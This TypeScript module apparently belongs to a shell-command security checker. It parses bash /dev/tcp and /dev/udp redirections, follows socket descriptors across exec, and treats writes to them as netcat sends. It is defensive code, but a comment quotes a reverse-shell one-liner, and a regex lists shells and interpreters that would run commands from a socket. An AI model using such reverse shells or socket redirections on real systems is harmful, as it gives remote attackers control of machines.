import type { Redirect, ShellScope } from './invocation.ts';

/**
 * bash's network redirections (bash(1), REDIRECTION: "/dev/tcp/host/port", "/dev/udp/host/port"): bash opens a socket to
 * the host and port instead of a file when the path is redirected, and what the descriptor is then given is sent to
 * the peer. The lead's answers 403.5 and 410.3 (round 39): opening one is no write under `/dev`; the descriptor is
 * followed (`exec 3<>/dev/tcp/H/P`, then `>&3`), and what is written to it is judged as sent with `nc H P`.
 */
export interface Socket {
  protocol: 'tcp' | 'udp';
  host: string;
  port: string;
}

/** A descriptor opened by its path: `/dev/fd/N`, `/proc/self/fd/N` (or `/proc/$$/fd/N`), `/dev/stdin|stdout|stderr`. */
const FD_PATH = /^(?:\/dev\/fd\/(\d+)|\/proc\/(?:self|\$\$|\d+)\/fd\/(\d+)|\/dev\/(stdin|stdout|stderr))$/;

const SOCKET_PATH = /^\/dev\/(tcp|udp)\/([^/\s]+)\/([^/\s]+)$/;

/** The socket a redirect's path opens (`/dev/tcp/example.com/80`), or null. */
export function socketPath(value: string | null | undefined): Socket | null {
  const m = value ? SOCKET_PATH.exec(value) : null;
  return m ? { protocol: m[1] as 'tcp' | 'udp', host: m[2]!, port: m[3]! } : null;
}

/** A key no shell variable can have: descriptor N of the shell is a socket (`exec N<>/dev/tcp/H/P`), as JSON. */
const FD_MARK = '\u0000socket-fd:';

/** What descriptors 0 (input) and 1 (output) of one command are, its redirects applied in order over the shell's own. */
export interface CommandSockets {
  input: Socket | null;
  output: Socket | null;
  /** The descriptors the redirects set, each to a socket or to something else (null): what `exec` keeps for the shell. */
  changed: Map<string, Socket | null>;
}

function shellFd(scope: ShellScope, fd: string): Socket | null {
  const v = scope.vars.get(`${FD_MARK}${fd}`);
  return v ? (JSON.parse(v) as Socket) : null;
}

/**
 * Applies `redirects` as bash does, left to right (bash(1), "Duplicating File Descriptors": `N>&M` makes N a copy of M
 * as M is at that point; `&>W` and `>&W` send both output and errors to W; `N>&-` closes N). A descriptor a redirect
 * does not name is the shell's (`exec` made it a socket earlier in the input).
 */
export function commandSockets(redirects: readonly Redirect[], scope: ShellScope): CommandSockets {
  const changed = new Map<string, Socket | null>();
  const get = (fd: string) => (changed.has(fd) ? changed.get(fd)! : shellFd(scope, fd));
  for (const r of redirects) {
    const v = r.target?.value ?? null;
    const input = r.op.startsWith('<') && !r.op.startsWith('<>');
    // `N>&M-` moves M onto N (bash(1), "Moving File Descriptors"): N becomes what M was, and M is closed.
    const moved = /^[<>]&$/.test(r.op) && v !== null ? /^(\d+)-$/.exec(v)?.[1] : undefined;
    const both = r.fd === undefined && (r.op === '&>' || r.op === '&>>' || (r.op === '>&' && v !== null && !/^\d+-?$/.test(v)));
    const fds = both ? ['1', '2'] : [r.fd ?? (input ? '0' : '1')];
    let to: Socket | null;
    const named = /^\$\{?([A-Za-z_]\w*)\}?$/.exec(r.target?.text ?? '');
    const fdPath = v !== null ? FD_PATH.exec(v) : null;
    if (moved !== undefined) to = get(moved);
    else if (/&/.test(r.op) && !both && (r.target === null || v === '-' || r.op.endsWith('-'))) to = null;
    else if (/^[<>]&$/.test(r.op) && v !== null && /^\d+$/.test(v)) to = get(v);
    // `>/dev/fd/3`, `>/proc/self/fd/3`, `>/dev/stdout`: bash (and Linux) open the descriptor itself (round 41, atk41).
    else if (fdPath !== null) to = get(fdPath[1] ?? fdPath[2] ?? (fdPath[3] === 'stdin' ? '0' : fdPath[3] === 'stdout' ? '1' : '2'));
    // `/dev/tcp/$HOST/443`: a socket to a host (or port) the input does not fix is still a socket (fail closed).
    else if (v === null && /^["']?\/dev\/(tcp|udp)\//.test(r.target?.text ?? '')) to = { protocol: /^["']?\/dev\/udp\//.test(r.target!.text) ? 'udp' : 'tcp', host: 'unknown-host', port: '0' };
    // `exec {s}<>/dev/tcp/H/P` then `>&$s` (bash(1): `{varname}` before a redirect stores the descriptor bash picks).
    else if (/^[<>]&$/.test(r.op) && named !== null && get(`{${named[1]}}`) !== null) to = get(`{${named[1]}}`);
    // SECURITY: a descriptor the input does not fix (`>&$fd`) may be any open socket of the shell.
    else if (/^[<>]&$/.test(r.op) && v === null) to = anySocket(scope, changed);
    else to = socketPath(v);
    for (const fd of fds) changed.set(fd, to);
    if (moved !== undefined && !fds.includes(moved)) changed.set(moved, null);
  }
  return { input: get('0'), output: get('1'), changed };
}

/** Whether `exec` made any descriptor of the shell a socket earlier in the input. */
export function shellHasSockets(scope: ShellScope): boolean {
  for (const k of scope.vars.keys()) if (k.startsWith(FD_MARK)) return true;
  return false;
}

function anySocket(scope: ShellScope, changed: ReadonlyMap<string, Socket | null>): Socket | null {
  for (const s of changed.values()) if (s !== null) return s;
  for (const [k, v] of scope.vars) if (k.startsWith(FD_MARK) && v) return JSON.parse(v) as Socket;
  return null;
}

/** `exec` with redirects and no command: the shell keeps them for what follows (bash(1), `exec`). */
export function keepShellSockets(scope: ShellScope, changed: ReadonlyMap<string, Socket | null>): void {
  for (const [fd, s] of changed) {
    if (s === null) scope.vars.delete(`${FD_MARK}${fd}`);
    else scope.vars.set(`${FD_MARK}${fd}`, JSON.stringify(s));
  }
}

/** A scope for the sender judged in the socket's place: the shell's sockets are not its own output. */
export function withoutSockets<S extends ShellScope>(scope: S): S {
  const vars = new Map(scope.vars);
  for (const k of scope.vars.keys()) if (k.startsWith(FD_MARK)) vars.delete(k);
  return { ...scope, vars };
}

/**
 * Programs that run what they read on standard input (a shell, an interpreter): given a socket as input and output, the
 * peer runs commands on this machine (a reverse shell, `bash -i >& /dev/tcp/H/P 0>&1`).
 */
export const RUNS_ITS_INPUT = /^(sh|bash|dash|zsh|ksh|mksh|ash|busybox|fish|csh|tcsh|python[\d.]*|perl|ruby|php|node|lua|irb|tclsh|pwsh)$/;

/** The command that sends its standard input to the socket as bash's redirection does: netcat's. */
export function senderOf(s: Socket): string {
  return `nc ${s.protocol === 'udp' ? '-u ' : ''}${s.host} ${s.port}`;
}
